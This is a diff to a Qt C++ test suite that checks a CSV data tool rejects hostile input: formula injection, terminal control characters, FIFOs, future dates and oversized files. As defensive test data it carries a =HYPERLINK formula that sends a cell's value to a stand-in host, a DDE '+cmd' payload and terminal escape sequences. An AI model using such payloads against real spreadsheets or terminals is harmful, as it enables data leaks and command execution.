@@ -51,9 +51,25 @@ private slots:
     // 9. export replaces only what it may
     void exportRefusesTargets_data();
     void exportRefusesTargets();
+    // 10. a FIFO as import
+    void importRefusesFifo();
     // 8. a full disk
     void fullDiskIsNamed();
+    // 3. formula injection
+    void formulaTextIsRefused_data();
+    void formulaTextIsRefused();
+    void storedFormulaTextIsNeutralised();
+    // 4. control characters
+    void controlCharactersAreRefusedAndEscaped_data();
+    void controlCharactersAreRefusedAndEscaped();
+    // 13. the minor ones
+    void futureSourceDateIsRefused();
+    void messagesHaveNoBareQtSuffix();
+    // 1. bounded reports
+    void reportsAreBounded_data();
+    void reportsAreBounded();
     void cleanup();
+
 private:
     struct Result
     {
@@ -591,6 +607,31 @@ void tst_Hostile::exportRefusesTargets()
 }
 
 // ---------------------------------------------------------------------------------------------
+// 10. A FIFO as import
+
+void tst_Hostile::importRefusesFifo()
+{
+    const QString fifo = m_dir->filePath(QStringLiteral("p.csv"));
+    QVERIFY(::mkfifo(QFile::encodeName(fifo).constData(), 0644) == 0);
+    for (const QStringList& args : {QStringList{"--database", m_db, "import", fifo},
+                                    QStringList{"--database", m_db, "import", fifo, "--dry-run"}}) {
+        QProcess p;
+        p.setProcessEnvironment(environment());
+        p.start(QStringLiteral(CROSSINGS_BINARY), args);
+        const bool finished = p.waitForFinished(20000);
+        if (!finished) {
+            p.kill();
+            p.waitForFinished();
+        }
+        QVERIFY2(finished, "import blocked on a FIFO");
+        QCOMPARE(p.exitCode(), 1);
+        const QString err = QString::fromUtf8(p.readAllStandardError());
+        QVERIFY2(err.contains(QStringLiteral("p.csv: this is not a regular file")),
+                 qPrintable(err));
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
 // 8. A full disk
 
 void tst_Hostile::fullDiskIsNamed()
@@ -635,6 +676,277 @@ void tst_Hostile::fullDiskIsNamed()
     QCOMPARE(data.code, 1);
     QVERIFY2(data.err.contains(QStringLiteral("the output could not be written")),
              qPrintable(data.err));
+}
+
+// ---------------------------------------------------------------------------------------------
+// 3. Formula injection
+
+namespace {
+const QByteArray Header =
+    "dataset,series,period,region,value,qualifier,unit,status,source_id,locator,note,"
+    "source_kind,source_title_en,source_outlet\n";
+}
+
+void tst_Hostile::formulaTextIsRefused_data()
+{
+    QTest::addColumn<QByteArray>("row");
+    QTest::addColumn<int>("column");
+    QTest::addColumn<QString>("start");
+    QTest::newRow("note =HYPERLINK")
+        << QByteArray("arrivals,total,2025,KR,224,,persons,final,news1-2025-02-04,p. 1,"
+                      "\"=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"click\"\")\",,,\n")
+        << 11 << "=";
+    QTest::newRow("locator +cmd")
+        << QByteArray("arrivals,total,2025,KR,224,,persons,final,news1-2025-02-04,"
+                      "+cmd|' /C calc'!A0,,,,\n")
+        << 10 << "+";
+    QTest::newRow("title @SUM")
+        << QByteArray("arrivals,total,2025,KR,224,,persons,final,new-source,,,press,@SUM(1+1),"
+                      "Outlet\n")
+        << 13 << "@";
+    QTest::newRow("outlet -2+3")
+        << QByteArray("arrivals,total,2025,KR,224,,persons,final,new-source,,,press,A title,"
+                      "-2+3\n")
+        << 14 << "-";
+    QTest::newRow("note after a tab")
+        << QByteArray("arrivals,total,2025,KR,224,,persons,final,news1-2025-02-04,,\"\t=1+1\",,,\n")
+        << 11 << "=";
+}
+
+void tst_Hostile::formulaTextIsRefused()
+{
+    QFETCH(QByteArray, row);
+    QFETCH(int, column);
+    QFETCH(QString, start);
+    const QString file = write(QStringLiteral("formula.csv"), Header + row);
+    const QByteArray before = bytes(m_db);
+    const Result r = run({"--database", m_db, "import", file});
+    QCOMPARE(r.code, 1);
+    QVERIFY2(r.err.contains(QStringLiteral("formula.csv, line 2, column %1: the text starts with "
+                                           "\"%2\", which spreadsheets take for a formula")
+                                .arg(column)
+                                .arg(start)),
+             qPrintable(r.err));
+    QCOMPARE(bytes(m_db), before);
+}
+
+void tst_Hostile::storedFormulaTextIsNeutralised()
+{
+    // Text stored before the import refused it (or written into the store by other means)
+    // comes out of every CSV with a leading apostrophe; numbers stay numbers.
+    {
+        QSqlDatabase db =
+            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("raw"));
+        db.setDatabaseName(m_db);
+        QVERIFY(db.open());
+        QSqlQuery q(db);
+        QVERIFY(
+            q.exec(QStringLiteral("UPDATE observations SET note = '=HYPERLINK(\"http://x\")', "
+                                  "locator = '@SUM(A1)' WHERE source_id = 'news1-2025-02-04'")));
+        QVERIFY(q.exec(QStringLiteral("UPDATE sources SET title_en = '+cmd|calc', outlet = "
+                                      "char(9) || 'tab', note = '-1+2' WHERE id = 'voa-2020-04'")));
+        q.finish();
+        db.close();
+    }
+    QSqlDatabase::removeDatabase(QStringLiteral("raw"));
+    const Result arrivals = run({"--database", m_db, "data", "arrivals"});
+    QCOMPARE(arrivals.code, 0);
+    QVERIFY2(arrivals.out.contains(QStringLiteral("'@SUM(A1),\"'=HYPERLINK(\"\"http://x\"\")\"")),
+             qPrintable(arrivals.out));
+    QVERIFY(!arrivals.out.contains(QStringLiteral(",=")));
+    QVERIFY(arrivals.out.contains(QStringLiteral(",236,"))); // values unchanged
+    const Result sources = run({"--database", m_db, "data", "sources"});
+    QCOMPARE(sources.code, 0);
+    QVERIFY2(sources.out.contains(QStringLiteral(",'+cmd|calc,")), qPrintable(sources.out));
+    QVERIFY2(sources.out.contains(QStringLiteral(",'\ttab,")), qPrintable(sources.out));
+    QVERIFY2(sources.out.contains(QStringLiteral(",'-1+2\n")), qPrintable(sources.out));
+    // File → Export Data… (the import format).
+    Store store;
+    QVERIFY(store.open(m_db, Store::Mode::ReadOnly));
+    Snapshot snapshot;
+    QVERIFY(store.load(&snapshot));
+    const QString exported = ImportPlan::exportCsv(snapshot, {QStringLiteral("arrivals")});
+    QVERIFY(exported.contains(QStringLiteral("'@SUM(A1),\"'=HYPERLINK(")));
+    QVERIFY(!exported.contains(QStringLiteral(",=")));
+}
+
+// ---------------------------------------------------------------------------------------------
+// 4. Control characters
+
+void tst_Hostile::controlCharactersAreRefusedAndEscaped_data()
+{
+    QTest::addColumn<QByteArray>("row");
+    QTest::addColumn<QString>("shown");
+    QTest::newRow("escape and bell in a title")
+        << QByteArray("arrivals,total,2025,KR,224,,persons,final,new-source,,,press,"
+                      "Title \x1b]0;owned\x07 here,Outlet\n")
+        << "U+001B";
+    QTest::newRow("clear screen in a value")
+        << QByteArray("arrivals,total,2025,KR,22\x1b[2J4,,persons,final,news1-2025-02-04,,,,,\n")
+        << "\\x1b[2J";
+    QTest::newRow("C1 control in a locator")
+        << QByteArray("arrivals,total,2025,KR,224,,persons,final,news1-2025-02-04,p. \xc2\x9b"
+                      "2J,,,,\n")
+        << "U+009B";
+}
+
+void tst_Hostile::controlCharactersAreRefusedAndEscaped()
+{
+    QFETCH(QByteArray, row);
+    QFETCH(QString, shown);
+    const QString file = write(QStringLiteral("control.csv"), Header + row);
+    for (const char* lang : {"en", "ko"}) {
+        QProcess p;
+        p.setProcessEnvironment(environment());
+        p.start(QStringLiteral(CROSSINGS_BINARY),
+                {"--lang", lang, "--database", m_db, "import", file, "--dry-run"});
+        QVERIFY(p.waitForFinished(60000));
+        QCOMPARE(p.exitCode(), 1);
+        const QByteArray out = p.readAllStandardOutput() + p.readAllStandardError();
+        QVERIFY2(out.contains(shown.toUtf8()), out.constData());
+        for (char c : out)
+            QVERIFY2(uchar(c) >= 0x20 || c == '\n', qPrintable(QStringLiteral("raw byte %1 in: %2")
+                                                                   .arg(int(uchar(c)))
+                                                                   .arg(QString::fromUtf8(out))));
+        QVERIFY2(!out.contains("\xc2\x9b"), out.constData());
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// 13. The minor ones
+
+void tst_Hostile::futureSourceDateIsRefused()
+{
+    const QDate tomorrow = QDate::currentDate().addDays(1);
+    for (const QString& date :
+         {QStringLiteral("2999-01-01"), QStringLiteral("2999"), tomorrow.toString(Qt::ISODate)}) {
+        const QByteArray csv =
+            "dataset,series,period,region,value,qualifier,unit,status,source_id,locator,note,"
+            "source_kind,source_title_en,source_published\n"
+            "arrivals,total,2025,KR,224,,persons,final,future,,,press,From the future," +
+            date.toUtf8() + "\n";
+        const Result r = run(
+            {"--database", m_db, "import", write(QStringLiteral("future.csv"), csv), "--dry-run"});
+        QCOMPARE(r.code, 1);
+        QVERIFY2(
+            r.err.contains(QStringLiteral("future.csv, line 2, column 14: date \"%1\" is after "
+                                          "today")
+                               .arg(date)),
+            qPrintable(r.err));
+    }
+    // Today is not the future.
+    const QByteArray csv = "dataset,series,period,region,value,qualifier,unit,status,source_id,"
+                           "locator,note,source_kind,source_title_en,source_published\n"
+                           "arrivals,total,2025,KR,224,,persons,final,today,,,press,Of today," +
+                           QDate::currentDate().toString(Qt::ISODate).toUtf8() + "\n";
+    const Result r =
+        run({"--database", m_db, "import", write(QStringLiteral("today.csv"), csv), "--dry-run"});
+    QVERIFY2(r.code == 0, qPrintable(r.err));
+}
+
+void tst_Hostile::messagesHaveNoBareQtSuffix()
+{
+    // A damaged store: the message is a sentence and SQLite's reason, without Qt's own suffix.
+    {
+        QFile f(m_db);
+        QVERIFY(f.open(QIODevice::ReadWrite));
+        QVERIFY(f.size() > 8192);
+        f.seek(4096);
+        f.write(QByteArray(f.size() - 4096, '\x5A'));
+    }
+    const QStringList commands[] = {
+        {"data", "arrivals"}, {"audit"}, {"import", example("import-2025.csv")}};
+    const char* suffixes[] = {"Unable to fetch row", "Unable to execute statement",
+                              "Unable to begin transaction", "Unable to commit transaction"};
+    for (const QStringList& args : commands) {
+        const Result r = run(QStringList{"--database", m_db} + args);
+        QCOMPARE(r.code, 1);
+        QVERIFY2(r.err.contains(QStringLiteral("is damaged")), qPrintable(r.err));
+        for (const char* suffix : suffixes)
+            QVERIFY2(!r.err.contains(QString::fromLatin1(suffix)), qPrintable(r.err));
+    }
+    // A store of ours that lost a table: SQLite's reason in a sentence.
+    QString error;
+    QVERIFY2(ImportFixture::createStore(m_db, &error), qPrintable(error));
+    {
+        QSqlDatabase db =
+            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("raw"));
+        db.setDatabaseName(m_db);
+        QVERIFY(db.open());
+        QSqlQuery q(db);
+        QVERIFY(q.exec(QStringLiteral("DROP TABLE events")));
+        q.finish();
+        db.close();
+    }
+    QSqlDatabase::removeDatabase(QStringLiteral("raw"));
+    for (const QStringList& args : commands) {
+        const Result r = run(QStringList{"--database", m_db} + args);
+        QCOMPARE(r.code, 1);
+        QVERIFY2(r.err.contains(QStringLiteral("Cannot read the database: no such table: events")),
+                 qPrintable(r.err));
+        for (const char* suffix : suffixes)
+            QVERIFY2(!r.err.contains(QString::fromLatin1(suffix)), qPrintable(r.err));
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// 1. Bounded reports
+
+void tst_Hostile::reportsAreBounded_data()
+{
+    QTest::addColumn<QByteArray>("content");
+    QTest::addColumn<QString>("expected");
+    QByteArray commas = "dataset" + QByteArray(2'000'000, ',') + "\n";
+    QTest::newRow("a header of two million commas")
+        << commas << "line 1: the header has 2000001 columns; an import file has at most";
+    QByteArray repeated = "dataset";
+    for (int i = 0; i < 20; ++i)
+        repeated += ",dataset";
+    repeated += "\n";
+    QTest::newRow("a column twenty times")
+        << repeated << "line 1, column 2: column \"dataset\" appears twice";
+    QByteArray empty = Header.trimmed() + "\n";
+    const QByteArray emptyRow(13, ',');
+    while (empty.size() < 4'000'000)
+        empty += emptyRow + "\n";
+    QTest::newRow("4 MB of rows of empty fields") << empty << "more problems, by kind:";
+    // 20,000 valid figures citing one source with a 100 kB title: the preview names it in
+    // every line.
+    QByteArray big = Header;
+    big += "arrivals,total,2020,KR,0,,persons,final,long-title,,,press," +
+           QByteArray(100'000, 'T') + ",Outlet\n";
+    for (int i = 1; i < 20'000; ++i)
+        big +=
+            "arrivals,total,2020,KR," + QByteArray::number(i) + ",,persons,final,long-title,,,,,\n";
+    QTest::newRow("20,000 figures, a 100 kB title") << big << "… and 19800 more";
+}
+
+void tst_Hostile::reportsAreBounded()
+{
+    QFETCH(QByteArray, content);
+    QFETCH(QString, expected);
+    const QString file = write(QStringLiteral("hostile.csv"), content);
+    // Memory: at most 2 GB of address space (not under a sanitizer, which reserves terabytes).
+    QProcess p;
+    p.setProcessEnvironment(environment());
+    if (qEnvironmentVariableIsSet("CROSSINGS_SANITIZED")) {
+        p.start(QStringLiteral(CROSSINGS_BINARY),
+                {"--database", m_db, "import", file, "--dry-run"});
+    } else {
+        p.start(QStringLiteral("/bin/sh"),
+                {"-c", QStringLiteral("ulimit -v 2000000 && exec '%1' --database '%2' import '%3' "
+                                      "--dry-run")
+                           .arg(QStringLiteral(CROSSINGS_BINARY), m_db, file)});
+    }
+    QVERIFY(p.waitForFinished(180000));
+    const QByteArray out = p.readAllStandardOutput();
+    const QByteArray err = p.readAllStandardError();
+    QCOMPARE(p.exitStatus(), QProcess::NormalExit);
+    // Bounded: the first problems, then counts; the first preview lines, then a count.
+    QVERIFY2(out.size() + err.size() < 400'000,
+             qPrintable(QStringLiteral("%1 bytes of output").arg(out.size() + err.size())));
+    QVERIFY2(out.count('\n') + err.count('\n') < 1000, err.left(2000).constData());
+    QVERIFY2(QString::fromUtf8(out + err).contains(expected), (out + err).left(3000).constData());
 }
 
 /// The child of leaveHotJournal("spilled pages"): changes every figure in a transaction with a
